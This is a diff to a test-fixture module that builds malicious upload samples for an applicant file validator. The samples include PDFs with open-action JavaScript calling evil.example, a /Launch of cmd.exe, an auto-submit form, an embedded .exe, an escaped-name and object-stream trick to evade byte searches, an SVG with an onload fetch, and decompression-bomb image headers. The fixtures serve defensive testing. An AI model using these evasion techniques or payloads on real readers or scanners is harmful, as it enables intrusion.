@@ -9,8 +9,11 @@ from __future__ import annotations
 import io
 import struct
 import zipfile
+import zlib
 from dataclasses import dataclass
 from functools import cache
+
+import pikepdf
 
 from tests.applicants import files
 
@@ -176,4 +179,180 @@ TRAVERSAL_NAMES = [
     "..\\..\\Windows\\System32\\drivers\\etc\\hosts.pdf",
     "evil\x00.pdf",
     "a" * 300 + ".pdf",
+]
+
+
+# --- Active content: PDFs a desktop reader would act on, and images too large to decode ----------
+# Built with pikepdf, so each is a well-formed PDF whose only fault is what it carries.
+
+SCRIPT_REASON = "This PDF contains a script. Print it to PDF and upload the copy."
+
+
+def _pdf(build=None, *, compress: bool = False) -> bytes:
+    """A one-page PDF; `build(pdf)` adds what the test is about. Compressed, every dictionary sits in
+    an object stream, where a search of the raw bytes for "/JavaScript" finds nothing."""
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    if build:
+        build(pdf)
+    out = io.BytesIO()
+    mode = pikepdf.ObjectStreamMode.generate if compress else pikepdf.ObjectStreamMode.disable
+    pdf.save(out, object_stream_mode=mode, compress_streams=compress)
+    return out.getvalue()
+
+
+def _action(pdf, kind: str, **entries):
+    return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(kind), **entries))
+
+
+def _open_action_js(pdf):
+    pdf.Root.OpenAction = _action(pdf, "/JavaScript", JS=pikepdf.String("app.launchURL('https://evil.example')"))
+
+
+def _document_js(pdf):
+    script = _action(pdf, "/JavaScript", JS=pikepdf.String("this.exportDataObject({cName: 'x', nLaunch: 2})"))
+    pdf.Root.Names = pikepdf.Dictionary(
+        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script]))
+    )
+
+
+def _launch(pdf):
+    pdf.Root.OpenAction = _action(pdf, "/Launch", F=pikepdf.String("cmd.exe"), Win=pikepdf.Dictionary(F="cmd.exe"))
+
+
+def _page_aa_submit(pdf):
+    # A page-open action that posts the form somewhere: no script, still done without asking.
+    submit = _action(pdf, "/SubmitForm", F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F="https://evil.example/"))
+    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=submit)
+
+
+def _embedded(pdf):
+    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, files.EXE, mime_type="application/octet-stream")
+
+
+def _rich_media(pdf):
+    annotation = pdf.make_indirect(
+        pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.RichMedia,
+            Rect=pikepdf.Array([0, 0, 100, 100]),
+            RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary(Names=pikepdf.Array())),
+        )
+    )
+    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))
+
+
+def _xfa(pdf):
+    template = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=template)
+
+
+def escaped_name_js() -> bytes:
+    """/J#61vaScript is /JavaScript to every reader; a byte search for "/JavaScript" misses it."""
+    return _pdf(_open_action_js).replace(b"/JavaScript", b"/J#61vaScript")
+
+
+def appended_svg() -> bytes:
+    """A PDF, then an SVG that runs on load (no <script> tag) after its %%EOF, past the first kilobyte."""
+    return (
+        files.PDF.replace(b"trailer", b"%" + b"0" * 2048 + b"\ntrailer")
+        + b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example\')"/>\n'
+    )
+
+
+def png_declaring(width: int, height: int) -> bytes:
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
+    chunk = b"IHDR" + ihdr
+    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(ihdr)) + chunk + struct.pack(">I", zlib.crc32(chunk))
+
+
+def jpeg_declaring(width: int, height: int) -> bytes:
+    exif = b"\xff\xe1" + struct.pack(">H", 2 + 3000) + b"Exif\x00\x00" + b"\x00" * 2994  # the frame comes later
+    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
+    return b"\xff\xd8" + exif + frame + b"\xff\xd9"
+
+
+def signed_looking() -> bytes:
+    """A PDF as a signing tool leaves it: a signature field (/FT /Sig) whose value is a /Sig
+    dictionary with a PKCS#7 placeholder, a link to a web page and an opening view (a destination,
+    not an action). None of it runs anything: it must be accepted."""
+
+    def build(pdf):
+        signature = pdf.make_indirect(
+            pikepdf.Dictionary(
+                Type=pikepdf.Name.Sig,
+                Filter=pikepdf.Name("/Adobe.PPKLite"),
+                SubFilter=pikepdf.Name("/adbe.pkcs7.detached"),
+                ByteRange=pikepdf.Array([0, 100, 200, 300]),
+                Contents=pikepdf.String(b"\x30\x82" + b"\x00" * 62),
+                M=pikepdf.String("D:20261201120000Z"),
+                Name=pikepdf.String("Dr Ada Okafor"),
+                Reason=pikepdf.String("Letter of recommendation"),
+            )
+        )
+        page = pdf.pages[0].obj
+        field = pdf.make_indirect(
+            pikepdf.Dictionary(
+                Type=pikepdf.Name.Annot,
+                Subtype=pikepdf.Name.Widget,
+                FT=pikepdf.Name.Sig,
+                T=pikepdf.String("Signature1"),
+                V=signature,
+                Rect=pikepdf.Array([0, 0, 0, 0]),
+                F=132,
+                P=page,
+            )
+        )
+        link = pdf.make_indirect(
+            pikepdf.Dictionary(
+                Type=pikepdf.Name.Annot,
+                Subtype=pikepdf.Name.Link,
+                Rect=pikepdf.Array([10, 10, 200, 30]),
+                A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://hospital.example/staff/okafor")),
+            )
+        )
+        page.Annots = pdf.make_indirect(pikepdf.Array([field, link]))
+        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]), SigFlags=3)
+        pdf.Root.OpenAction = pikepdf.Array([page, pikepdf.Name.Fit])
+
+    return _pdf(build)
+
+
+PRINT_IT = "Print it to PDF and upload the copy."
+ACTIVE_PDFS = [
+    Hostile("PDF: JavaScript run on opening", "letter.pdf", PDF_TYPE, lambda: _pdf(_open_action_js), SCRIPT_REASON),
+    Hostile("PDF: document-level JavaScript", "letter.pdf", PDF_TYPE, lambda: _pdf(_document_js), SCRIPT_REASON),
+    Hostile(
+        "PDF: JavaScript inside an object stream",
+        "letter.pdf",
+        PDF_TYPE,
+        lambda: _pdf(_open_action_js, compress=True),
+        SCRIPT_REASON,
+    ),
+    Hostile("PDF: JavaScript under an escaped name", "letter.pdf", PDF_TYPE, escaped_name_js, SCRIPT_REASON),
+    Hostile("PDF: /Launch", "letter.pdf", PDF_TYPE, lambda: _pdf(_launch), "command that starts a program"),
+    Hostile("PDF: page-open /AA action", "letter.pdf", PDF_TYPE, lambda: _pdf(_page_aa_submit), "automatic action"),
+    Hostile("PDF: embedded file", "letter.pdf", PDF_TYPE, lambda: _pdf(_embedded), "another file attached inside it"),
+    Hostile(
+        "PDF: RichMedia (Flash)", "letter.pdf", PDF_TYPE, lambda: _pdf(_rich_media), "embedded video, sound or Flash"
+    ),
+    Hostile("PDF: XFA form", "letter.pdf", PDF_TYPE, lambda: _pdf(_xfa), "XFA form"),
+    Hostile("PDF: SVG appended after %%EOF", "letter.pdf", PDF_TYPE, appended_svg, "added after its end"),
+    Hostile("PDF: damaged", "letter.pdf", PDF_TYPE, lambda: b"%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF\n", "damaged"),
+]
+HUGE_IMAGES = [
+    Hostile(
+        "PNG declaring 100,000 x 100,000 pixels",
+        "scan.png",
+        PNG_TYPE,
+        lambda: png_declaring(100_000, 100_000),
+        "100,000 x 100,000 pixels",
+    ),
+    Hostile(
+        "JPEG declaring 65,535 x 65,535 pixels",
+        "scan.jpg",
+        "image/jpeg",
+        lambda: jpeg_declaring(65_535, 65_535),
+        "65,535 x 65,535 pixels",
+    ),
 ]
